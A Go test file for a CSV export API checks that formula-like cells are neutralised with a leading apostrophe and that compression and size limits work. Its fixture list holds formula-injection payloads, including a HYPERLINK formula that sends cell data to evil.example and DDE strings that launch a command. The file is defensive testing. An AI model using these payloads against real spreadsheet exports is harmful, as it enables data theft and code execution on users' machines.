package api_test

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"coffer/shared/api"
)

// formulas are cells that some spreadsheet computes rather than shows.
var formulas = []string{
	"=1+1",
	`=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
	"=cmd|' /C calc'!A0",
	"=\n1",
	"+1+1",
	"+cmd|' /C calc'!A0",
	"-1+1",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1,1)",
	"\t=1+1",
	"\r=1+1",
	"\x00=1+1",
	"\n=1+1",
	"＝1+1",
}

// harmless are cells that hold what only looks dangerous, or tests the quoting.
var harmless = []string{
	"", "a=1+1", " =1+1", "'=1+1", `"=1+1"`, `say "hi", twice`, "comma, semicolon; tab\there",
	"two\nlines", "lone\rreturn", "Zoë 🗺 العربية", "ends in a backslash\\", "1-1", "0", "ann@acme.example",
}

// unpacked returns the file of a sheet's answer.
func unpacked(t *testing.T, out *api.SheetOutput) []byte {
	t.Helper()
	if out.Encoding == "" {
		return out.Body
	}
	z, err := gzip.NewReader(bytes.NewReader(out.Body))
	if err != nil {
		t.Fatal(err)
	}
	file, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return file
}

func TestSheetComesBackAsWrittenAndComputesNothing_B2(t *testing.T) {
	t.Parallel()
	var rows, want [][]string
	for i, f := range formulas {
		rows = append(rows, []string{f, "between", f, harmless[i]})
		want = append(want, []string{"'" + f, "between", "'" + f, harmless[i]})
	}
	if len(rows) != 14 {
		t.Fatalf("%d payloads, want 14", len(rows))
	}
	for _, accept := range []string{"", "gzip, deflate, br", "gzip;q=0", "identity"} {
		sheet := api.NewSheet(accept)
		for _, row := range rows {
			sheet.Row(row...)
		}
		out := sheet.Answer("x.csv")
		if packed := accept == "gzip, deflate, br"; packed != (out.Encoding == "gzip") {
			t.Errorf("to %q: packed as %q", accept, out.Encoding)
		}
		file := unpacked(t, out)
		got, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("read back (-want +got):\n%s", diff)
		}
		if n := bytes.Count(file, []byte("\"\r\n")); n != len(rows) || !bytes.HasSuffix(file, []byte("\"\r\n")) {
			t.Errorf("%d of %d rows end as RFC 4180 says", n, len(rows))
		}
	}
}

func TestSheetIsFullBeforeItIsNoAnswer(t *testing.T) {
	t.Parallel()
	for _, accept := range []string{"", "gzip"} {
		sheet := api.NewSheet(accept)
		row := strings.Repeat("0123456789", 1000)
		n := 0
		for ; !sheet.Full(t.Context()) && n < 1000; n++ {
			sheet.Row(row)
		}
		if full := sheet.Full(t.Context()); full != (accept == "") {
			t.Errorf("accepting %q, full: %v after %d rows of 10 KB", accept, full, n)
		}
		if size := len(sheet.Answer("x.csv").Body); size > 6_000_000*3/4 {
			t.Errorf("accepting %q: %d bytes are no answer of a function", accept, size)
		}
	}
}
